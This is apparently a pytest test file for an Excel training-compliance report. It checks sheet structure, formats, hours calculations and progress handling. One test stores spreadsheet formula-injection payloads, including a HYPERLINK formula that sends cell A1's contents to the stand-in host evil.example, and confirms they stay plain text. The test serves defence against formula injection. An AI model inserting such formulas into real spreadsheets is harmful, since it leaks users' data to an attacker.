"""The compliance workbook read back with openpyxl: sheets as Excel tables, frozen
headers, real dates, shares as numbers formatted 0%, formula-looking names kept as text."""

from __future__ import annotations

import io
from dataclasses import replace
from datetime import datetime
from pathlib import Path

import pytest
from openpyxl import load_workbook
from openpyxl.workbook import Workbook
from openpyxl.worksheet.worksheet import Worksheet

from app.reports.excel.compliance import write_compliance_xlsx
from app.reports.excel.workbook import MAX_WIDTH
from app.services.certificates import CertificateStatus
from app.services.compliance import ComplianceReport, HoursReport, HoursTarget, PersonHours
from app.services.training_documents import ComplianceDoc
from tests.reports.test_pdf_training import compliance, requirement, standing

S = CertificateStatus
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def sample() -> ComplianceDoc:
    doc = compliance()
    report = doc.compliance
    people = [standing(0, S.NEVER, FORMULA), standing(1, S.CURRENT, "+1 555 0100"),
              standing(2, S.EXPIRED, "@SUM(A1)")]
    extra = requirement(4, "-Negative course", "@tag", people)
    hours = replace(doc.hours, people=(*doc.hours.people,
                                       PersonHours(9, "=1+2", "-org", 3.25, 40.0)))
    return replace(doc, compliance=replace(report, requirements=(*report.requirements, extra)),
                   hours=hours)


def written(doc: ComplianceDoc) -> Workbook:
    buffer = io.BytesIO()
    write_compliance_xlsx(doc, buffer)
    return load_workbook(io.BytesIO(buffer.getvalue()))


def records(sheet: Worksheet) -> list[dict[str, object]]:
    values = list(sheet.iter_rows(values_only=True))
    headers = [str(h) for h in values[0]]
    return [dict(zip(headers, row, strict=True)) for row in values[1:]]


@pytest.fixture(scope="module")
def workbook() -> Workbook:
    return written(sample())


def test_four_sheets_each_one_table_with_a_frozen_header(workbook: Workbook) -> None:
    assert workbook.sheetnames == ["Summary", "People", "Hours 2026", "Hours by organization"]
    for sheet in workbook.worksheets:
        assert sheet.freeze_panes == "A2"
        (table,) = sheet.tables.values()
        assert table.ref == f"A1:{sheet.cell(1, sheet.max_column).column_letter}{sheet.max_row}"
        assert [c.name for c in table.tableColumns] == [c.value for c in sheet[1]]
        assert table.autoFilter is not None
        for letter, dimension in sheet.column_dimensions.items():
            assert 6 <= dimension.width <= MAX_WIDTH, (sheet.title, letter)
    properties = workbook.properties
    assert properties.title == "Training compliance"
    assert properties.subject == "Training compliance"
    assert properties.creator == "Riverton Police Department"
    assert properties.description is not None and "20 Mar 2026" in properties.description
    assert properties.created is not None


def test_the_summary_sheet(workbook: Workbook) -> None:
    sheet = workbook["Summary"]
    assert [c.value for c in sheet[1]] == [
        "Requirement", "Course", "Tag", "Mode", "People", "Current", "Expiring soon",
        "Expired", "Never completed", "Compliant", "% compliant"]
    rows = {r["Course"]: r for r in records(sheet)}
    deesc = rows["De-escalation Fundamentals"]
    assert (deesc["Requirement"], deesc["Tag"], deesc["Mode"]) == (
        "De-escalation Fundamentals (officer)", "officer", "Keep current")
    assert [deesc[h] for h in ("People", "Current", "Expiring soon", "Expired",
                               "Never completed", "Compliant")] == [5, 2, 1, 1, 1, 3]
    share = sheet.cell(2, 11)
    assert (share.value, share.data_type, share.number_format) == (0.6, "n", "0%")
    nobody = rows["Youth Mentor Orientation"]
    assert nobody["People"] == 0 and nobody["% compliant"] == "—"  # never 0%
    assert rows["Youth Mentor Orientation"]["Mode"] == "Complete once"
    width = sheet.column_dimensions["K"].width
    assert len("% compliant") < width <= 20


def test_the_people_sheet_one_row_per_requirement_and_person(workbook: Workbook) -> None:
    sheet = workbook["People"]
    assert [c.value for c in sheet[1]] == [
        "Requirement", "Course", "Tag", "Person", "Organization", "Status", "Compliant",
        "Completed", "Expires"]
    rows = records(sheet)
    assert len(rows) == 5 + 1 + 0 + 3
    ivanov = next(r for r in rows if r["Person"] == "Дмитрий Иванов")
    assert ivanov == {
        "Requirement": "De-escalation Fundamentals (officer)",
        "Course": "De-escalation Fundamentals", "Tag": "officer",
        "Person": "Дмитрий Иванов", "Organization": "Городской совет", "Status": "Expired",
        "Compliant": "No", "Completed": datetime(2024, 5, 2), "Expires": datetime(2026, 5, 2),
    }
    never = next(r for r in rows if r["Person"] == "Zoë Núñez")
    assert (never["Status"], never["Completed"], never["Expires"]) == (
        "Never completed", None, None)
    expiring = next(r for r in rows if r["Status"] == "Expiring soon")
    assert expiring["Compliant"] == "Yes"
    dated = next(row for row in sheet.iter_rows(min_row=2) if row[7].value is not None)
    assert dated[7].is_date and dated[7].number_format == "yyyy-mm-dd"
    assert dated[8].is_date and dated[8].number_format == "yyyy-mm-dd"


def test_formula_looking_text_stays_text(workbook: Workbook) -> None:
    people = workbook["People"]
    cells = [c for row in people.iter_rows(min_row=2) for c in row]
    for text in (FORMULA, "+1 555 0100", "@SUM(A1)", "-Negative course", "@tag"):
        matches = [c for c in cells if c.value == text]
        assert matches, text
        for cell in matches:
            assert cell.data_type == "s" and cell.quotePrefix, text
    summary = [c for row in workbook["Summary"].iter_rows(min_row=2) for c in row]
    assert any(c.value == "-Negative course" and c.data_type == "s" for c in summary)
    hours = [c for row in workbook["Hours 2026"].iter_rows(min_row=2) for c in row]
    assert [c.data_type for c in hours if c.value in ("=1+2", "-org")] == ["s", "s"]


def test_the_hours_sheets(workbook: Workbook) -> None:
    sheet = workbook["Hours 2026"]
    assert [c.value for c in sheet[1]] == [
        "Person", "Organization", "Hours", "Target", "Short by", "Below target"]
    rows = {r["Person"]: r for r in records(sheet)}
    assert rows["Ann Adams"] == {"Person": "Ann Adams", "Organization": "Riverton High",
                                 "Hours": 12.5, "Target": 40, "Short by": 27.5,
                                 "Below target": "Yes"}
    assert (rows["Zoë Núñez"]["Short by"], rows["Zoë Núñez"]["Below target"]) == (0, "No")
    assert (rows["Bo Kim"]["Target"], rows["Bo Kim"]["Below target"]) == (None, None)
    assert rows["=1+2"]["Short by"] == 36.75
    assert sheet["C2"].number_format == "#,##0.0" and sheet["C2"].data_type == "n"
    organizations = records(workbook["Hours by organization"])
    assert organizations == [
        {"Organization": "Riverton High", "People trained": 1, "Hours": 12.5},
        {"Organization": "Safe Harbor", "People trained": 1, "Hours": 44}]


def test_an_empty_report_is_still_a_valid_workbook(tmp_path: Path) -> None:
    empty = replace(compliance(), compliance=ComplianceReport(compliance().today, ()),
                    hours=HoursReport(2025, HoursTarget(), (), ()))
    path = tmp_path / "empty.xlsx"
    assert write_compliance_xlsx(empty, path) == 0
    workbook = load_workbook(path)
    assert workbook.sheetnames == ["Summary", "People", "Hours 2025", "Hours by organization"]
    assert all(len(s.tables) == 1 for s in workbook.worksheets)


def test_progress_counts_every_row_and_cancelling_leaves_no_file(tmp_path: Path) -> None:
    seen: list[tuple[int, int]] = []
    path = tmp_path / "compliance.xlsx"
    rows = write_compliance_xlsx(sample(), path, progress=lambda d, t: seen.append((d, t)))
    assert rows == 4 + 9 + 5 + 2
    assert seen[-1] == (rows, rows) and all(t == rows for _, t in seen)
    assert [d for d, _ in seen] == sorted(d for d, _ in seen)

    def cancel(done: int, total: int) -> None:
        raise KeyboardInterrupt

    with pytest.raises(KeyboardInterrupt):
        write_compliance_xlsx(sample(), tmp_path / "cancelled.xlsx", progress=cancel)
    assert [p.name for p in tmp_path.iterdir()] == ["compliance.xlsx"]
